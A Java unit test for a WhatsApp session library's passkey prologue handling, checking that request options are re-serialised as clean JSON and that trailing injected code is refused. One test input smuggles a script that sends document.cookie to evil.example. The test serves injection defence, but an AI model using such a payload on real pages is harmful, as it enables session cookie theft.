package io.kubezap.session.engine.cobalt;

import it.auties.whatsapp.model.node.Node;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 79 S8: the passkey request options a {@code passkey_prologue_request} carries reach the session's state only as
 * one JSON object written out again; the snippet the owner runs in a browser is built from them.
 */
class PasskeyPrologueTest {

    private static final Instant NOW = Instant.parse("2026-11-28T09:00:00Z");

    @Test
    void optionsWithCodeAfterTheJsonObjectAreRefused() {
        var request = PasskeyPrologue.request(notification(
                "{\"challenge\":\"abc\",\"rpId\":\"whatsapp.com\"}); fetch('https://evil.example/?' + document.cookie); ({"), NOW);

        assertThat(request).isEmpty();
    }

    @Test
    void theOptionsArePassedOnAsWrittenOutAgain() {
        var request = PasskeyPrologue.request(notification("{ \"challenge\" : \"abc\",\n \"rpId\": \"whatsapp.com\", \"timeout\": 60000 }"), NOW);

        assertThat(request).hasValueSatisfying(requested -> {
            assertThat(requested.requestOptions()).isEqualTo("{\"challenge\":\"abc\",\"rpId\":\"whatsapp.com\",\"timeout\":60000}");
            assertThat(requested.challenge()).isEqualTo("abc");
            assertThat(requested.expiresAt()).isEqualTo(NOW.plusSeconds(60));
        });
    }

    private static Node notification(String options) {
        return Node.of("notification", Map.of("type", "passkey_prologue_request", "from", "s.whatsapp.net"),
                Node.of("passkey_request_options", Map.of(), options.getBytes(StandardCharsets.UTF_8)));
    }
}
